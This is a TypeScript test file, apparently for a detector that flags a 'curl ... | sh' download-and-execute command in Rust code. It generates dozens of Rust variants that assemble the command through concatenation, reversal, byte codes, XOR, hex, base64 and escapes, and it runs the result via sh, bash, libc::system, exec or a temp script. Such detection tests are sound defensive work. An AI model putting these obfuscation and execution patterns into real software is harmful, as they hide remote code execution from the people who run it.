import { commandOf, follows } from "../../testing/followed.js";

const {
  whole: COMMAND,
  halves: [FIRST, LAST],
  turned: TURNED,
  codes: CODES,
  hex: HEX,
  base64: BASE64,
} = commandOf("curl -s https://n.inv", "alid/a | sh");
const QUOTED = `"${COMMAND}"`;

const MARK = "\n---\n";

/** A program with these statements. */
const inMain = (statements: string, uses = "use std::process::Command;") =>
  `${uses}\nfn main() {\n    ${statements}\n}\n`;

/** Each leaves the command in `text`. */
const PROGRAMS = [
  `let text = "${FIRST}".to_string() + "${LAST}";`,
  `let text = format!("{}{}", "${FIRST}", "${LAST}");`,
  `let a = "${FIRST}";\n    let text = format!("{a}${LAST}");`,
  `let text = format!("{0}{1}", "${FIRST}", "${LAST}");`,
  `let text = concat!("${FIRST}", "${LAST}");`,
  `let text = ["${FIRST}", "${LAST}"].concat();`,
  `let text = ["${FIRST}", "${LAST}"].join("");`,
  `let text = vec!["${FIRST}", "${LAST}"].join("");`,
  `let mut text = String::from("${FIRST}");\n    text.push_str("${LAST}");`,
  `let mut text = String::new();\n    text.push_str("${FIRST}");\n    text.push_str("${LAST}");`,
  `let mut text = String::new();\n    text += "${FIRST}";\n    text += "${LAST}";`,
  `let mut text = String::new();\n    for p in ["${FIRST}", "${LAST}"] {\n        text.push_str(p);\n    }`,
  `let mut text = String::new();\n    for p in vec!["${FIRST}", "${LAST}"].iter() {\n        text += p;\n    }`,
  `let mut p = Vec::new();\n    p.push("${FIRST}");\n    p.push("${LAST}");\n    let text = p.concat();`,
  `let mut p = vec!["${LAST}"];\n    p.insert(0, "${FIRST}");\n    let text = p.join("");`,
  `let mut p = vec!["${LAST}", "${FIRST}"];\n    p.reverse();\n    let text = p.join("");`,
  `let (a, b) = ("${FIRST}", "${LAST}");\n    let text = format!("{}{}", a, b);`,
  `let p = ["${FIRST}", "${LAST}"];\n    let text = format!("{}{}", p[0], p[1]);`,
  `let text: String = "${TURNED}".chars().rev().collect();`,
  `let text = "${TURNED}".chars().rev().collect::<String>();`,
  `let text = String::from_utf8(vec![${CODES.join(", ")}]).unwrap();`,
  `let text = std::str::from_utf8(&[${CODES.join(", ")}]).unwrap();`,
  `let text = String::from_utf8_lossy(&[${CODES.join(", ")}]).to_string();`,
  `let text: String = [${CODES.join(", ")}].iter().map(|&n| n as u8 as char).collect();`,
  `let text: String = [${CODES.map((one) => one ^ 7).join(", ")}].iter().map(|n| (n ^ 7) as u8 as char).collect();`,
  `let raw: Vec<u8> = vec![${CODES.map((one) => one ^ 7).join(", ")}].into_iter().map(|n| n ^ 7).collect();\n    let text = String::from_utf8(raw).unwrap();`,
  `let mut text = String::new();\n    for n in [${CODES.join(", ")}] {\n        text.push(n as u8 as char);\n    }`,
  `let text = String::from_utf8(hex::decode("${HEX}").unwrap()).unwrap();`,
  `let text = String::from_utf8(base64::decode("${BASE64}").unwrap()).unwrap();`,
  `let text = String::from_utf8(STANDARD.decode("${BASE64}").unwrap()).unwrap();`,
  `let text = "${FIRST}#${LAST}".replace("#", "");`,
  `let text = "${COMMAND.toUpperCase()}".to_lowercase();`,
  `let text = "##${COMMAND}".trim_start_matches("##");`,
  `let text = &"##${COMMAND}"[2..];`,
  `let text = "${FIRST}#${LAST}".split('#').collect::<Vec<_>>().join("");`,
  `let text = "${FIRST}#${LAST}".split('#').collect::<String>();`,
  `let text = "  ${COMMAND}  ".trim();`,
  `let text = "##${COMMAND}".strip_prefix("##").unwrap();`,
  `const A: &str = "${FIRST}";\n---\nlet text = format!("{}{}", A, "${LAST}");`,
  `static A: &str = "${FIRST}";\n---\nlet text = A.to_owned() + "${LAST}";`,
  `fn make(a: &str) -> String {\n    format!("{}{}", a, "${LAST}")\n}\n---\nlet text = make("${FIRST}");`,
  `fn make() -> String {\n    return "${FIRST}".to_string() + "${LAST}";\n}\n---\nlet text = make();`,
  `struct N {\n    a: &'static str,\n}\n---\nlet n = N { a: "${FIRST}" };\n    let text = format!("{}{}", n.a, "${LAST}");`,
  `struct N {\n    a: String,\n}\nimpl N {\n    fn made(&self) -> String {\n        format!("{}{}", self.a, "${LAST}")\n    }\n}\n---\nlet text = N { a: "${FIRST}".into() }.made();`,
  `let make = |a: &str| format!("{}{}", a, "${LAST}");\n    let text = make("${FIRST}");`,
  `let text = if true { format!("{}{}", "${FIRST}", "${LAST}") } else { String::new() };`,
  `let text = match 1 { 1 => format!("{}{}", "${FIRST}", "${LAST}"), _ => String::new() };`,
  `let text = "\\x63\\x75rl -s https://n.invalid/a | sh";`,
  `let text = "\\u{63}url -s https://n.invalid/a | sh";`,
  `let text = r"${FIRST}".to_string() + r#"${LAST}"#;`,
  `let text = [b'c', b'u', b'r', b'l'].iter().map(|b| *b as char).collect::<String>() + " -s https://n.invalid/a | sh";`,
  `let text = "x".replace("x", "${FIRST}") + "${LAST}";`,
  `let text = "${FIRST}".repeat(1) + "${LAST}";`,
  `let text = String::from_iter(["${FIRST}", "${LAST}"]);`,
  `let text = ["${FIRST}", "${LAST}"].iter().fold(String::new(), |a, b| a + b);`,
  `let mut m = std::collections::HashMap::new();\n    m.insert("a", "${FIRST}");\n    let text = format!("{}{}", m["a"], "${LAST}");`,
  `let mut text = String::new();\n    write!(text, "{}{}", "${FIRST}", "${LAST}");`,
  `std::env::set_var("A", "${FIRST}");\n    let text = std::env::var("A").unwrap() + "${LAST}";`,
  `let text = include_str!("x").to_string() + "" ; let text = format!("{}{}", "${FIRST}", "${LAST}");`,
];

/** Each runs the command. */
const STARTS = [
  inMain(`Command::new("sh").arg("-c").arg(${QUOTED}).spawn();`),
  inMain(`Command::new("sh").args(["-c", ${QUOTED}]).output();`),
  inMain(`Command::new("sh").args(&["-c", ${QUOTED}]).status();`),
  inMain(`Command::new("bash").arg("-c").arg(${QUOTED}).status().unwrap();`),
  inMain(`let mut c = Command::new("sh");\n    c.arg("-c").arg(${QUOTED});\n    c.spawn();`),
  inMain(`let mut c = Command::new("sh");\n    c.arg("-c");\n    c.arg(${QUOTED});\n    c.status();`),
  inMain(`let args = vec!["-c", ${QUOTED}];\n    Command::new("sh").args(args).status();`),
  inMain(`std::process::Command::new("sh").arg("-c").arg(${QUOTED}).spawn();`, ""),
  inMain(`process::Command::new("sh").arg("-c").arg(${QUOTED}).spawn();`, "use std::process;"),
  inMain(`Cmd::new("sh").arg("-c").arg(${QUOTED}).spawn();`, "use std::process::Command as Cmd;"),
  inMain(`tokio::process::Command::new("sh").arg("-c").arg(${QUOTED}).spawn();`, ""),
  inMain(
    `Command::new("sh").arg("-c").arg(${QUOTED}).exec();`,
    "use std::os::unix::process::CommandExt;\nuse std::process::Command;",
  ),
  inMain(`unsafe { libc::system(c"${COMMAND}".as_ptr()); }`, ""),
  inMain(`let c = std::ffi::CString::new(${QUOTED}).unwrap();\n    unsafe { libc::system(c.as_ptr()); }`, ""),
  inMain(
    `let mut p = Command::new("sh").stdin(Stdio::piped()).spawn().unwrap();\n    p.stdin.unwrap().write_all(b${QUOTED});`,
  ),
  inMain(`run(${QUOTED});\n}\nfn run(c: &str) {\n    Command::new("sh").arg("-c").arg(c).status();`),
  inMain(`std::fs::write("/tmp/n.sh", ${QUOTED});\n    Command::new("sh").arg("/tmp/n.sh").status();`),
  inMain(`thread::spawn(|| { Command::new("sh").arg("-c").arg(${QUOTED}).status(); });`),
  inMain(`let shell = "sh";\n    Command::new(shell).arg("-c").arg(${QUOTED}).status();`),
  inMain(`if Command::new("sh").arg("-c").arg(${QUOTED}).status().is_ok() {}`),
  inMain(`let _ = Command::new("sh").arg("-c").arg(${QUOTED}).status();`),
];

follows("rust", {
  itself: `use std::process::Command;
fn main() {
    Command::new("sh").arg("-c").arg("${COMMAND}").status();
}
`,
  run: (program) => {
    // Before the mark are declarations, and after it statements.
    const [declared = "", statements] = program.includes(MARK) ? program.split(MARK) : ["", program];
    return `use std::process::Command;
${declared}
fn main() {
    ${statements}
    Command::new("sh").arg("-c").arg(text).status();
}
`;
  },
  programs: PROGRAMS,
  starts: STARTS,
});
